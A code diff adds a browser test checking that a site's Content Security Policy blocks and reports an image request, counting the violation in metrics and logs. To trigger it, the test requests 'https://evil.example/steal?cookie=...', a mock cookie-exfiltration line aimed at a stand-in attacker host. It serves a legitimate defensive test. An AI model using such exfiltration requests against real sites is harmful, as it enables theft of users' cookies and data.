@@ -131,6 +131,51 @@ describe('what browsers report', () => {
     await eventually(() => metric('kinemorph_client_errors_total{screen="home",region="kr",build="current"}')).toBe(1);
   });
 
+  it('violation of the policy: is counted and logged when it is sent as the Reporting API sends it, to where the document says', async () => {
+    await using watched = await visited.open({ expects: /Content Security Policy|blocked/ });
+    const { page } = watched;
+    const document = await page.goto(`${visited.site.origin}/fr/manuals`);
+    const headers = document?.headers() ?? {};
+    // Chromium without a window makes the report, and never sends it.
+    const [report] = await page.evaluate(
+      async () =>
+        new Promise<object[]>((resolve) => {
+          new ReportingObserver((made) => resolve(made.map((one) => (one as { toJSON(): object }).toJSON())), {
+            types: ['csp-violation'],
+          }).observe();
+          new Image().src = 'https://evil.example/steal?cookie=anna@example.com';
+        }),
+    );
+    expect(report).toMatchObject({ type: 'csp-violation', body: { disposition: 'enforce' } });
+    const [, group = ''] = /report-to (\w+)/.exec(headers['content-security-policy'] ?? '') ?? [];
+    const [, endpoint = ''] = new RegExp(`${group}="([^"]+)"`).exec(headers['reporting-endpoints'] ?? '') ?? [];
+    const sent = await ask(visited.site.origin, endpoint, {
+      method: 'POST',
+      headers: {
+        'content-type': 'application/reports+json',
+        origin: visited.site.origin,
+        'sec-fetch-dest': 'report',
+        'sec-fetch-mode': 'cors',
+        'sec-fetch-site': 'same-origin',
+      },
+      body: JSON.stringify([{ age: 1200, user_agent: 'a browser', ...report }]),
+    });
+    expect(sent.status).toBe(204);
+    await eventually(() => metric('kinemorph_policy_violations_total{directive="img-src"}')).toBe(1);
+    await eventually(() =>
+      Promise.resolve(lines().filter(({ msg }) => msg === 'a browser reports a violation of the policy')),
+    ).toEqual([
+      expect.objectContaining({
+        directive: 'img-src',
+        blocked: 'https://evil.example',
+        page: '/fr/manuals',
+        screen: 'manuals',
+        region: 'fr',
+      }),
+    ]);
+    expect(visited.site.output()).not.toMatch(/anna|steal/);
+  });
+
   it('vitals: are sent where a notice is enough, when the page is left', async () => {
     await using watched = await visited.open();
     const { page } = watched;
